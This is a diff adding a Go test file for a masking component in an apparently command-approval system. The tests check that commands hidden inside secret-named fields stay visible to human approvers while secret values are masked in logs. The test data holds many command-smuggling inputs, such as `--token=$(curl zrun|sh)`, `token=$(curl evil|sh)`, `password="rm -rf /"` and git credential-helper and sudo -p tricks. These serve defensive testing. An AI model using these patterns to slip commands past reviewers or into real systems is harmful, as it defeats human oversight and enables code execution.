@@ -1,0 +1,265 @@
+package approval
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"pgregory.net/rapid"
+)
+
+// TestRule3_WhatWouldRunIsShown: each of these runs zrun…, or the words that say so, under a secret's name. People
+// who decide see it; a log need not.
+func TestRule3_WhatWouldRunIsShown(t *testing.T) {
+	for _, in := range []string{
+		`git -c 'credential.helper=!touch /tmp/zrun' credential fill`,
+		`git -c credential.helper=!zrun credential fill`,
+		`git -c 'credential.https://example.com.helper=!zrun' fetch`,
+		`git -c alias.token=!zrun token`,
+		`git -c filter.secret.clean=zrun add x`,
+		`git -c diff.token.command=zrun diff`,
+		"printf '[default]\ncredential_process=zrun' > ~/.aws/config",
+		`restic --password-command=zrun snapshots`,
+		`restic --password-command zrun snapshots`,
+		`RESTIC_PASSWORD_COMMAND=zrun restic snapshots`,
+		`ansible-playbook --vault-password-file=zrun x.yml`,
+		`GIT_ASKPASS=zrun git fetch`,
+		`token=$(zrun)`, "token=`zrun`", `token="$(zrun a b)"`, `--token=$(curl zrun|sh)`, `token=x$(zrun)`, `token="x"$(zrun)`,
+		`token=<(zrun)`, `PASSWORD=x; zrun -rf`, `PASSWORD=x&&zrun`, `PASSWORD=x|zrun`, `PASSWORD=x&zrun`, "PASSWORD=x\nzrun",
+		`TOKEN= zrun`, `user[token]= zrun`, `"token"= zrun`, `TOKEN=  zrun`,
+		`TOKEN=zrun; $TOKEN`, `TOKEN=zrun; "${TOKEN}" a`, `TOKEN=zrun; eval $TOKEN`, `TOKEN=zrun bash -c '$TOKEN'`, `export TOKEN=zrun; sudo $TOKEN`,
+		`TOKEN=zrun; x=$TOKEN; $x`, `TOKEN=zrun && if $TOKEN; then :; fi`, `TOKEN=zrun; a=$(date) $TOKEN`,
+		`alias token=zrun; token`, `echo token=zrun | cut -d= -f2 | sh`, `echo token: zrun|cut -c8-|bash -s`, `set -- password=zrun; ${1#*=}`,
+		"sh <<EOF\ntoken=zrun\n$token\nEOF", "cat <<EOF | sh\ntoken=1 zrun\nEOF", `sh -c '"$@"' --token zrun`, `token=zrun; xargs -I{} {} <<< $token`,
+		`sudo -p Password: zrun`, `sudo -p "Password:" zrun`, `sudo -p --password zrun`, `env -u --token zrun`, `exec -a token= zrun`, `/usr/bin/sudo -p token: zrun`,
+		`s'u'do -p token: zrun`, `flock token: zrun`, `exec -a Bearer zrunzrun1`, `exec -a Bearer /tmp/zrun`, `docker run -e --token zrun`, `timeout 5 sudo -p token: zrun`,
+		`find . -exec env -u token: zrun \;`, `sh -c 'sudo -p token: zrun'`, `kubectl exec p -- env -u token: zrun`, `"/tmp/token: zrun"`, `/tmp/token=zrun`, `bin/token=a/zrun`,
+		`{sudo,-p,token:,zrun}`, `{sudo,-p,token=x,zrun}`,
+		`curl -H "Authorization: Bearer $(zrun)" x`, "curl -H \"Authorization: Bearer `zrun`\" x", `curl -H "Authorization: Bearer abcdef$(zrun)"`,
+		`curl -H "Cookie: sid=$(zrun); b=c"`, `https://user:$(zrun)@host`, "https://user:`zrun`@host", `x://a:;zrun;@h`, `x://a:&zrun&@h`, `curl 'https://u:'$(zrun)'@h'`,
+		"echo -----BEGIN PRIVATE KEY-----\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu\nzrun\n-----END PRIVATE KEY-----",
+		"echo -----BEGIN PRIVATE KEY-----\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu\n/tmp/Xzrun/AAAAAAAAAA\n-----END PRIVATE KEY-----",
+		"echo -----BEGIN PRIVATE KEY-----\nVersion: $(zrun)\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu\n-----END PRIVATE KEY-----",
+		"echo -----BEGIN PRIVATE KEY-----\nProc-Type: ;zrun\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu\n-----END PRIVATE KEY-----",
+		`python3 -c 'import os; token="zrun"; os.system(token)'`, `node -e 'token="zrun"; require("child_process").execSync(token)'`, `perl -e '$token="zrun"; system $token'`,
+		`TOKEN=zrun cmd /c %TOKEN%`, `token=$'zrun\n'`, `token="zrun;x"`, `token=ab\;zrun`, "token=\\\nzrun;reboot", `password=/usr/bin/zrun`, `--token ./zrun`, `--token ~/zrun`,
+		`token=../zrun`, `secret=https://evil.example/zrun.sh`, `ｔｏｋｅｎ=zrun`, "token=a\u2028zrun", "token=a\u200bzrun", `token=a；zrun`,
+		"token=a\u00a0zrun", "hooks.slack.com/../../../../usr/bin/zrun", `Bearer 12|zrunzrun`, `curl -H 'Authorization: Bearer 12|zrunzrun'`,
+	} {
+		if got, _ := new(Masker).Text(in); !strings.Contains(got, "zrun") {
+			t.Errorf("%q is shown as %q", in, got)
+		}
+		args := `{"command":` + quoted(in) + `}`
+		if got, _ := new(Masker).Args([]byte(args)); !strings.Contains(string(got), "zrun") {
+			t.Errorf("%s is shown as %s", args, got)
+		}
+	}
+	for _, in := range []string{
+		`{"token":"$(zrun)"}`, "{\"token\":\"`zrun`\"}", `{"password":"x${IFS}$(zrun)"}`, `{"credential_helper":"zrun"}`, `{"password_command":"zrun"}`,
+		`{"credentials":{"exec":{"command":"zrun"}}}`, `{"secrets":{"helper":"zrun"}}`, `{"token":{"argv":["zrun"]}}`, `{"tokenFile":"zrun"}`,
+		`{"command":"$API_TOKEN","env":{"API_TOKEN":"zrun"}}`, `{"env":{"API_TOKEN":"zrun"},"script":"eval \"$API_TOKEN\""}`,
+		`{"env":[{"name":"TOKEN","value":"zrun"}],"command":"sh -c \"$TOKEN\""}`, `{"env":["TOKEN=zrun"],"command":"exec $TOKEN"}`,
+		`["sudo","-p","--password","zrun"]`, `{"command":"sudo","args":["-p","--password","zrun"]}`, `["sh","-c","\"$@\"","--token","zrun"]`,
+		`["sudo","-p","token:","zrun"]`, `{"key":"credential.helper","value":"!zrun"}`, `["env","TOKEN= zrun"]`,
+		`{"command":"sudo","args":"-p --password zrun"}`,
+	} {
+		if got, _ := new(Masker).Args([]byte(in)); !strings.Contains(string(got), "zrun") {
+			t.Errorf("%s is shown as %s", in, got)
+		}
+		if got := new(Masker).ArgsLimited([]byte(in), 4000); !strings.Contains(got, "zrun") {
+			t.Errorf("%s is shown, limited, as %s", in, got)
+		}
+	}
+}
+
+// TestRule3_LogsMaskWholeValues: where a value is both a secret's and what would run, a log has none of it.
+func TestRule3_LogsMaskWholeValues(t *testing.T) {
+	m := new(Masker).ForLogs()
+	for in, want := range map[string]string{
+		`token=$(curl evil|sh) x`:              "token=" + markOf("$(curl evil|sh)") + " x",
+		"token=`a b`; c":                       "token=" + markOf("`a b`") + "; c",
+		`--token "$(a "b" c)" d`:               `--token "` + markOf(`$(a "b" c)`) + `" d`,
+		`password="rm -rf /"`:                  `password="` + markOf("rm -rf /") + `"`,
+		`password=ab'c d'"e"f g`:               "password=" + markOf(`ab'c d'"e"f`) + " g",
+		`TOKEN= reboot`:                        "TOKEN= " + markOf("reboot"),
+		`token=/usr/bin/x`:                     "token=" + markOf("/usr/bin/x"),
+		`sudo -p Password: reboot`:             "sudo -p Password: " + markOf("reboot"),
+		`Authorization: Bearer $(a b)`:         "Authorization: Bearer " + markOf("$(a b)"),
+		`https://u:$(a b)@h/x`:                 "https://u:" + markOf("$(a b)") + "@h/x",
+		`alias token=reboot; eval $token`:      "alias token=" + markOf("reboot") + "; eval $token",
+		`credential.helper=!touch x`:           "credential.helper=!touch x",
+		`curl -d 'token=abc' x`:                "curl -d 'token=" + markOf("abc") + "' x",
+		`https://x/?token=a&b=c`:               "https://x/?token=" + markOf("a") + "&b=c",
+		"token=" + strings.Repeat("é", 300):    "token=" + markOf(strings.Repeat("é", 300)),
+		"password=${DB_PASSWORD} token=$TOKEN": "password=${DB_PASSWORD} token=$TOKEN",
+	} {
+		got, _ := m.Text(in)
+		if got != want {
+			t.Errorf("%q:\ngot  %q\nwant %q", in, got, want)
+		}
+		if again, _ := m.Text(got); again != got {
+			t.Errorf("%q masked twice: %q", in, again)
+		}
+	}
+	for in, want := range map[string]string{
+		`{"password":"rm -rf /"}`:                        `{"password":` + quoted(markOf("rm -rf /")) + `}`,
+		`{"token":"$(x)"}`:                               `{"token":` + quoted(markOf("$(x)")) + `}`,
+		`{"token":"` + strings.Repeat("a", 300) + `"}`:   `{"token":` + quoted(markOf(strings.Repeat("a", 300))) + `}`,
+		`["sudo","-p","--password","reboot"]`:            `["sudo","-p","--password",` + quoted(markOf("reboot")) + `]`,
+		`{"command":"$TOKEN","env":{"TOKEN":"reboot"}}`:  `{"command":"$TOKEN","env":{"TOKEN":` + quoted(markOf("reboot")) + `}}`,
+		`{"credentials":{"command":"reboot","a":"b c"}}`: `{"credentials":{"command":"reboot","a":` + quoted(markOf("b c")) + `}}`,
+	} {
+		if got, _ := m.Args([]byte(in)); string(got) != want {
+			t.Errorf("%s:\ngot  %s\nwant %s", in, got, want)
+		}
+	}
+	if NewMasker("iban").ForLogs().Keeping("token").kindOf("token") != notSecret || NewMasker("iban").ForLogs().kindOf("iban") != secret ||
+		!NewMasker().ForLogs().Keeping("x").forLogs() {
+		t.Error("what is masked or kept is lost")
+	}
+}
+
+func TestRule3_NamesOfProgramsAreNoSecrets(t *testing.T) {
+	for _, name := range []string{
+		"credential.helper", "credential_helper", "password-command", "PASSWORD_COMMAND", "credential_process", "tokenProgram", "SSH_ASKPASS", "passwordAskpass",
+		"secret_exec", "password_file", "token-path", "SECRET_FILES", "password_command2",
+	} {
+		for _, m := range []*Masker{nil, new(Masker).ForLogs(), NewMasker(name)} {
+			if m.kindOf(name) != notSecret {
+				t.Errorf("%q is taken for a secret", name)
+			}
+		}
+		if !NamesProgram(name) {
+			t.Errorf("%q names no program", name)
+		}
+	}
+	for _, name := range []string{"password", "helper_token", "commandPassword", "file_secret", ""} {
+		if NamesProgram(name) {
+			t.Errorf("%q names a program", name)
+		}
+	}
+}
+
+// shellText is a text of which it is known, since it was made so, what a shell would run and what is secret.
+type shellText struct {
+	text    string
+	runs    []string
+	secrets []string
+}
+
+// secretNames are names a value may stand under.
+var secretNames = []string{"token", "PASSWORD", "api_key", "client-secret", "Authorization", "cookie", "db.passwd", "GITHUB_TOKEN", "credentials"}
+
+// shellStatement draws one statement. RUN stands for what runs, NAME for a secret's name, VAR for one that a shell
+// takes for a variable, VALUE for what is no secret and does not run.
+func shellStatement(t *rapid.T) shellText {
+	form := rapid.SampledFrom([]string{
+		`RUN`, `RUN --NAME VALUE`, `VAR=VALUE RUN`, `VAR= RUN`, `VAR=$(RUN)`, "VAR=`RUN`", `VAR="$(RUN x)"`, `VAR=VALUE; RUN`, `VAR=VALUE && RUN`, `VAR=VALUE|RUN`, `VAR=VALUE& RUN`,
+		`VAR=RUN; $VAR`, `VAR=RUN; "$VAR"`, `VAR=RUN; eval $VAR`, `VAR=RUN; sh -c "$VAR"`, `VAR=RUN bash -c '$VAR'`, `VAR=RUN; if "${VAR}"; then :; fi`, `VAR=RUN; y=$VAR; $y`,
+		`f() { "$@"; }; f --NAME RUN`, `f() { shift; $1; }; f NAME: RUN`, `set -- --NAME=RUN; ${1#*=}`,
+		`prog --NAME=$(RUN)`, `prog --NAME "$(RUN)"`, `prog --NAME=VALUE$(RUN)`, `prog --NAME="VALUE"$(RUN)`, `prog --NAME-command=RUN`, `prog --NAME-command RUN`, `prog --NAME-file RUN`,
+		`git -c 'credential.helper=!RUN x' fetch`, `git -c credential.helper=RUN fetch`, `git -c 'alias.NAME=!RUN' NAME`, `GIT_ASKPASS=RUN git fetch`, `credential_process=RUN`,
+		`sudo -p NAME: RUN`, `sudo -p --NAME RUN`, `env -u --NAME RUN`, `exec -a NAME= RUN`, `flock NAME: RUN`, `nice -n 5 sudo -p NAME: RUN`, `find . -exec env -u NAME: RUN \;`,
+		`exec -a Bearer RUN`, `curl -H "Authorization: Bearer $(RUN)" x`, "curl -H \"NAME: `RUN`\" x", `curl -H "Cookie: a=$(RUN); b=VALUE"`, `curl https://u:$(RUN)@h/`, `x://u:;RUN;@h`,
+		"sh <<EOF\nVAR=RUN\n$VAR\nEOF", "cat <<EOF | sh\nVAR=VALUE RUN\nEOF", `echo NAME=RUN | cut -d= -f2 | sh`, `alias VAR=RUN; VAR`, `echo RUN | xargs -I{} sh -c {}`,
+		"echo -----BEGIN PRIVATE KEY-----\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu7Ts6Rp5O\nRUN\n-----END PRIVATE KEY-----", "echo -----BEGIN PRIVATE KEY-----\nVersion: ;RUN\nZq9Xw8Vu7Ts6Rp5OZq9Xw8Vu",
+		`{ VAR=VALUE; RUN; }`, `(RUN)`, `while RUN; do :; done`, `! RUN`, `time RUN`, `{sudo,-p,NAME=VALUE,RUN}`, `python3 -c 'import os; VAR="RUN"; os.system(VAR)'`, `trap RUN EXIT`,
+		`prog NAME=SECRET`, `prog --NAME=SECRET`, `prog --NAME SECRET`, `curl -H 'Authorization: Bearer SECRET'`, `curl -H "NAME: SECRET"`, `export VAR='SECRET'`, `VAR=SECRET; $VAR`,
+		`cat /tmp/SECRET/x`, `curl https://h/SECRET/`, `eval "prog SECRET"`, `echo '{"NAME":"SECRET"}' | sh`, `SECRET`, `sudo -p NAME: SECRET`, `"SECRET"$(RUN)`, `$(echo SECRET)`,
+	}).Draw(t, "form")
+	s := shellText{text: form}
+	fill := func(hole, with string) bool {
+		if !strings.Contains(s.text, hole) {
+			return false
+		}
+		s.text = strings.ReplaceAll(s.text, hole, with)
+		return true
+	}
+	variable := rapid.SampledFrom([]string{"token", "PASSWORD", "api_key", "GITHUB_TOKEN", "secret", "DB_PASS"}).Draw(t, "variable")
+	name := rapid.SampledFrom(secretNames).Draw(t, "name")
+	run := rapid.SampledFrom([]string{"%s", "/tmp/%s", "./%s", "bin/%s", "~/%s", "/opt/x-y/%s"}).Draw(t, "place")
+	if run = fmt.Sprintf(run, "zrun"+rapid.StringMatching(`[a-z]{4,8}`).Draw(t, "run")); fill("RUN", run) {
+		s.runs = append(s.runs, run)
+	}
+	if token := rapid.SampledFrom(fixtures()).Draw(t, "secret"); !strings.HasPrefix(token.name, "PEM") && token.name != "JWT without signature" && fill("SECRET", token.token) {
+		s.secrets = append(s.secrets, token.token)
+	}
+	fill("SECRET", "x")
+	fill("VAR", variable)
+	fill("NAME", name)
+	fill("VALUE", rapid.SampledFrom([]string{"x", "hunter2", "a,b", "v=1", "2026"}).Draw(t, "value"))
+	return s
+}
+
+// drawShell draws a few statements, one after the other, with what may stand between and around them.
+func drawShell(t *rapid.T) shellText {
+	var all shellText
+	for n := range rapid.IntRange(1, 3).Draw(t, "statements") {
+		s := shellStatement(t)
+		if n > 0 {
+			all.text += rapid.SampledFrom([]string{"\n", "; ", " && ", " || ", " | ", " & ", "\n# it's a comment\n"}).Draw(t, "between")
+		}
+		all.text += s.text
+		all.runs, all.secrets = append(all.runs, s.runs...), append(all.secrets, s.secrets...)
+	}
+	switch rapid.IntRange(0, 5).Draw(t, "around") {
+	case 0:
+		if !strings.Contains(all.text, "'") {
+			all.text = "sh -c '" + all.text + "'"
+		}
+	case 1:
+		all.text = "sudo -E env A=b " + all.text
+	case 2:
+		all.text = "cd x && { " + all.text + "\n}"
+	}
+	return all
+}
+
+// checkShown holds that of a text all that runs is shown, and nothing that is secret, to those who decide.
+func checkShown(t interface {
+	Helper()
+	Fatalf(string, ...any)
+}, s shellText) {
+	t.Helper()
+	text, _ := new(Masker).Text(s.text)
+	argv, _ := new(Masker).Args([]byte(`{"argv":["bash","-c",` + quoted(s.text) + `],"command":` + quoted(s.text) + `}`))
+	for _, shown := range []string{text, string(argv)} {
+		for _, run := range s.runs {
+			if !strings.Contains(shown, run) {
+				t.Fatalf("%q runs %q, which is not shown in %q", s.text, run, shown)
+			}
+		}
+	}
+	logged, _ := new(Masker).ForLogs().Text(s.text)
+	for _, shown := range []string{text, string(argv), logged} {
+		for _, hidden := range s.secrets {
+			if strings.Contains(shown, hidden) || strings.Contains(shown, hidden[len(hidden)/2:]) {
+				t.Fatalf("%q holds %q, which is shown in %q", s.text, hidden, shown)
+			}
+		}
+	}
+}
+
+func TestRule3_WhateverAShellRunsIsShown(t *testing.T) {
+	rapid.Check(t, func(t *rapid.T) { checkShown(t, drawShell(t)) })
+}
+
+func FuzzShellMask(f *testing.F) {
+	f.Fuzz(rapid.MakeFuzz(func(t *rapid.T) { checkShown(t, drawShell(t)) }))
+}
+
+func TestScanOfCommandsTakesLinearTime(t *testing.T) {
+	const size = 1 << 18
+	for _, unit := range []string{"sudo -p token: x ", "$(", "`", "${", "(", ")", "token=x ", "token=$x ", "{", `"`, "' ", "\\", "\\\n", "sudo \" ", "token: x\n", "a/token=x ", "a,token=x,", "{token=a,", "eval ", "> "} {
+		for _, m := range []*Masker{new(Masker), new(Masker).ForLogs()} {
+			text := strings.Repeat(unit, size/len(unit))
+			start := time.Now()
+			m.Text(text)
+			m.Args([]byte(`{"a":[` + quoted(text) + `,"--token",` + quoted(text) + `],"token":` + quoted(text) + `}`))
+			if took := time.Since(start); took > 5*time.Second {
+				t.Errorf("%q repeated: %v", unit, took)
+			}
+		}
+	}
+}
